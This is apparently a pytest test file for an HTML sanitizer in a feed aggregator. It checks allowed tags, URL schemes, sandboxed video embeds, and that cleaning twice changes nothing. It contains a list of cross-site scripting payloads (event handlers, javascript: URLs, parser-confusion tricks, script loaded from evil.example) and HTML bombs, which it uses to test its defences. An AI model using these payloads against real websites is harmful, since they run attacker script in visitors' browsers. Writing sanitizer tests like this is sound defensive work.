"""The HTML policy: what stays, what goes, that nothing runs, that cleaning twice changes nothing."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aggregator.sanitize import clean_html, to_text
from aggregator.sanitize.html import is_bounded
from aggregator.sanitize.policy import ATTRIBUTES, EMBEDS, SCHEMES, TAGS

BASE = "https://example.org/blog/post.html"
SET_BY_POLICY = {"rel", "loading", "sandbox", "controls"}


class Auditor(HTMLParser):
    """Fails on anything that the policy does not name; checks every URL that a reader would use."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        assert tag in TAGS, tag
        for name, value in attrs:
            allowed = ATTRIBUTES.get(tag, frozenset()) | ATTRIBUTES["*"] | SET_BY_POLICY
            assert name in allowed, (tag, name)
            self.check_value(tag, name, value or "")
        if tag == "iframe":
            names = dict(attrs)
            assert EMBEDS.fullmatch(names["src"] or "")
            assert "allow-top-navigation" not in (names["sandbox"] or "")

    def check_value(self, tag: str, name: str, value: str) -> None:
        if name == "href":
            assert urlsplit(value).scheme in SCHEMES, value
        elif name in ("src", "poster", "cite"):
            assert urlsplit(value).scheme in ("http", "https"), value
        elif name == "srcset":
            assert all(re.match(r"https?://", part) for part in value.split(", ")), value


def audit(cleaned: str) -> list[str]:
    auditor = Auditor()
    auditor.feed(cleaned)
    auditor.close()
    return auditor.tags


PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror\n=\nalert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=`javascript:alert(1)`>",
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href=//evil.example ping=https://evil.example/p onclick=alert(1)>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=https://www.youtube.com/embed/a srcdoc='<script>x</script>'><script>x</script>",
    "<iframe src='https://www.youtube.com.evil.example/embed/a'></iframe>",
    "<iframe src='https://user@www.youtube.com:evil@evil.example/embed/'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object><embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)><select onchange=alert(1)><option>x</select>",
    "<video poster=javascript:alert(1) src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<video onloadstart=alert(1)><source onerror=alert(1)>",
    "<audio src=data:audio/mp3,x oncanplay=alert(1)>",
    "<img srcset='javascript:alert(1) 1x, data:image/svg+xml,x 2x' src=a.png>",
    "<img data-src='javascript:alert(1)' src=x>",
    "<img src=x data-srcset='a.png 1x, javascript:alert(1) 2x' >",
    "<blockquote cite='javascript:alert(1)'>x</blockquote><q cite=vbscript:x>y</q>",
    "<p style='background:url(javascript:alert(1))' class=x>y</p><style>@import 'x'</style>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'><base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<template><script>alert(1)</script></template><noscript><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></p>",
    "<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<xmp><p title='</xmp><img src onerror=alert(1)>'></xmp><plaintext><script>x",
    "<p id='x\" onmouseover=\"alert(1)'>x</p><img alt='`><img src=x onerror=alert(1)>' src=x>",
)


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("frame", ["{}", "<p>a{}b</p>", "<table><tr><td>{}", "<math>{}</math>"])
def test_nothing_of_an_attack_is_left(payload: str, frame: str) -> None:
    cleaned = clean_html(frame.format(payload), BASE)
    audit(cleaned)
    assert "<script" not in cleaned.lower()
    assert clean_html(cleaned, BASE) == cleaned


@pytest.mark.parametrize(
    ("given", "wanted"),
    [
        ("<p>a &amp; b</p>", "<p>a &amp; b</p>"),
        ("a &lt; b", "a &lt; b"),
        ("<a href='../x?a=1&b=2'>l</a>", '<a href="https://example.org/x?a=1&amp;b=2" rel="noopener noreferrer">l</a>'),
        ("<img src=/i.png alt='' width=20px height=50%>", '<img src="https://example.org/i.png" alt="" width="20" height="50%" loading="lazy">'),
        ("<img src='data:image/gif;base64,x' data-src=/real.jpg alt=r>", '<img src="https://example.org/real.jpg" alt="r" loading="lazy">'),
        ("<img src=/p.gif width=1 height=1>", ""),
        ("<img src=https://pixel.wp.com/g.gif?x>", ""),
        ("<img src=data:image/png;base64,AAAA>", ""),
        ("<b id=x class=y style='color:red'>t</b>", '<b id="entry-x">t</b>'),
        ("<center><font color=red>t</font></center>", "t"),
        ("a\x00\x08b\ufffe", "ab"),
        ("<ol start=3 reversed><li value=4>x</ol>", '<ol start="3" reversed=""><li value="4">x</li></ol>'),
        ("<math><mfrac><mi>a</mi><mn>2</mn></mfrac></math>", "<math><mfrac><mi>a</mi><mn>2</mn></mfrac></math>"),
        ("<img src=/i.png width=0600px height=4097>", '<img src="https://example.org/i.png" width="600" loading="lazy">'),
        ("<img src=/i.png width=101% height=auto>", '<img src="https://example.org/i.png" loading="lazy">'),
        ("<img src=/i.png style='color: red; width: 1px; height:1px'>", ""),
        ("<img src=/i.png style='max-width:1px;width:100px'>", '<img src="https://example.org/i.png" loading="lazy">'),
        ("<img src=/" + "i" * 8192 + ">", ""),
        ("<a href=/" + "i" * 8192 + ">x</a>", '<a rel="noopener noreferrer">x</a>'),
        ("<a href=#n>1</a><p id=n>n</p>", '<a href="#entry-n" rel="noopener noreferrer">1</a><p id="entry-n">n</p>'),
        ("<a href='post.html#%C3%A9'>1</a><a class=x name='\u00e9'>n</a>", '<a href="#entry-\u00e9" rel="noopener noreferrer">1</a><a id="entry-\u00e9" rel="noopener noreferrer">n</a>'),
        ("<a href=#m>1</a><p id=n>n</p>", '<a href="https://example.org/blog/post.html#m" rel="noopener noreferrer">1</a><p id="entry-n">n</p>'),
        ("<a href=/other#n>1</a><p id=n>n</p>", '<a href="https://example.org/other#n" rel="noopener noreferrer">1</a><p id="entry-n">n</p>'),
        ("<table><tr><th id=h>x<td headers='h'>y</table>", '<table><tbody><tr><th id="entry-h">x</th><td headers="entry-h">y</td></tr></tbody></table>'),
        ("<script>x</script>\xa0", "&nbsp;"),
        ("<embed src=https://ads.example/x.swf>", ""),
        ("<iframe src=https://maps.example/x title=Map></iframe>", '<p><a href="https://maps.example/x" rel="noopener noreferrer">Map</a></p>'),
    ],
)  # fmt: skip
def test_what_becomes_of(given: str, wanted: str) -> None:
    assert clean_html(given, BASE) == wanted


def test_a_player_stays_in_a_sandbox() -> None:
    cleaned = clean_html(
        "<iframe width=560 src='//www.youtube.com/embed/x?a=1&b=2'>y</iframe>z", BASE
    )
    assert audit(cleaned) == ["iframe"]
    assert 'src="https://www.youtube.com/embed/x?a=1&amp;b=2"' in cleaned
    assert 'sandbox="allow-scripts' in cleaned
    assert cleaned.endswith("></iframe>z")


def test_a_plugged_in_player_becomes_a_frame() -> None:
    cleaned = clean_html("<object><embed src=http://www.youtube.com/v/x?a=1></object>", BASE)
    assert audit(cleaned) == ["iframe"]
    assert 'src="https://www.youtube.com/embed/x?a=1"' in cleaned


@pytest.mark.parametrize(
    "way_out", ["../redirect?q=x", "a/%2e%2E/x", "%2e.", ".%2e%2fx", "x\\..\\y", "..?x", "x/..#"]
)
def test_a_player_cannot_be_left_for_another_page_of_its_site(way_out: str) -> None:
    src = f"https://www.youtube.com/embed/{way_out}"
    assert not EMBEDS.fullmatch(src)
    assert audit(clean_html(f"<iframe src='{src}'></iframe>", BASE)) == ["p", "a"]


def test_what_looks_like_markup_in_a_value_is_not_cut() -> None:
    alt = '<iframe src=https://www.youtube.com/embed/x></iframe><img alt="><noscript>'
    cleaned = clean_html(f"<blockquote title='{alt}'>x</blockquote><img alt='{alt}' src=/a>", BASE)
    assert audit(cleaned) == ["blockquote", "img"]


def test_candidates_of_srcset_are_resolved_one_by_one() -> None:
    cleaned = clean_html("<img srcset='a.jpg 1x, /b,c.jpg 2x, ftp://x/y 3x' src=s.jpg>", BASE)
    assert 'srcset="https://example.org/blog/a.jpg 1x, https://example.org/b,c.jpg 2x"' in cleaned


def test_noscript_gives_the_image_once() -> None:
    lazy = "<img data-src=/a.jpg src=data:x><noscript><img src=/a.jpg></noscript>"
    assert clean_html(lazy, BASE).count("<img") == 1
    assert clean_html("<noscript><img src=/b.jpg></noscript>", BASE).count("<img") == 1


def test_without_a_base_relative_urls_go() -> None:
    cleaned = clean_html("<a href=/x>l</a><img src=y.png><a href=https://e.org/>m</a>", None)
    assert "/x" not in cleaned
    assert "y.png" not in cleaned
    assert 'href="https://e.org/"' in cleaned


@pytest.mark.parametrize(
    "base", ["", "ftp://x/", "http://[bad/", "http://", "not a url", "https://é.org/ x"]
)
def test_a_bad_base_is_no_failure(base: str) -> None:
    audit(clean_html("<a href=/x>l</a><img src=https://e.org/i.png>", base))


@pytest.mark.parametrize(
    "bomb",
    [
        "<div>" * 20_000,
        "".join(f"<b id=a{i}>" for i in range(5_000)) + "<p>x" * 5_000,
        "<table>" * 5_000,
        "<p>x" + "&amp;" * 200_000,
        "<p " + "x=1 " * 50_000 + ">",
    ],
)
def test_html_that_is_costly_to_repair_becomes_its_words(bomb: str) -> None:
    assert not is_bounded(bomb)
    assert "<" not in clean_html(bomb, BASE)


def test_a_srcset_of_nothing_but_commas_costs_as_any_other() -> None:
    # Minutes where each comma is looked through from each comma.
    page = f"<img src=x.png srcset='{',' * 8192}'>" * 2_500
    assert "srcset" not in clean_html(page, BASE)


def test_long_and_flat_html_is_kept() -> None:
    page = "<p>one <b>two</b><br>three</p><ul><li>x<li>y</ul>" * 2_000
    assert is_bounded(page)
    assert clean_html(page, BASE).count("<p>") == 2_000


@pytest.mark.parametrize(
    ("given", "wanted"),
    [
        ("<p>one</p><p>two</p>", "one\ntwo"),
        ("<h1>Head</h1>text<br>more", "Head\ntext\nmore"),
        ("<ul><li>a<li>b</ul>c", "a\nb\nc"),
        ("un<b>broken</b> word", "unbroken word"),
        ("a &amp;lt; b&nbsp;&nbsp;c", "a &lt; b c"),
        ("<script>x</script>y<style>z</style>", "y"),
        ("<table><tr><td>1<td>2<tr><td>3</table>", "1\n2\n3"),
        ("  plain   text ", "plain text"),
        ("1 < 2", "1 < 2"),
        ("", ""),
    ],
)
def test_text_of_html(given: str, wanted: str) -> None:
    assert to_text(given) == wanted


_PIECES = st.one_of(
    st.sampled_from(
        [
            "<p>",
            "</p>",
            "<b>",
            "</b>",
            "<a",
            "href=",
            "</a>",
            "<img",
            "src=",
            "srcset=",
            "<iframe",
            "</iframe>",
            "<math>",
            "<mtext>",
            "<mi>",
            "<table>",
            "<td>",
            "<svg>",
            "<style>",
            "<noscript>",
            "<template>",
            "<!--",
            "-->",
            "<![CDATA[",
            "]]>",
            ">",
            '"',
            "'",
            "=",
            "javascript:",
            "https://e.org/",
            "//e.org",
            "/x",
            "#f",
            "&amp;",
            "&lt;",
            "&#x6a;",
            "data:",
            "onerror=",
            "<source",
            "<video",
            "id=x",
            "x.png",
            " ",
            "\n",
        ]
    ),
    st.sampled_from(PAYLOADS),
    st.text(max_size=8),
)


@settings(max_examples=100, deadline=None)
@given(st.lists(_PIECES, max_size=25).map("".join))
def test_whatever_comes_the_result_is_by_the_policy_and_stable(markup: str) -> None:
    cleaned = clean_html(markup, BASE)
    audit(cleaned)
    assert clean_html(cleaned, BASE) == cleaned
    assert "\x00" not in to_text(markup)
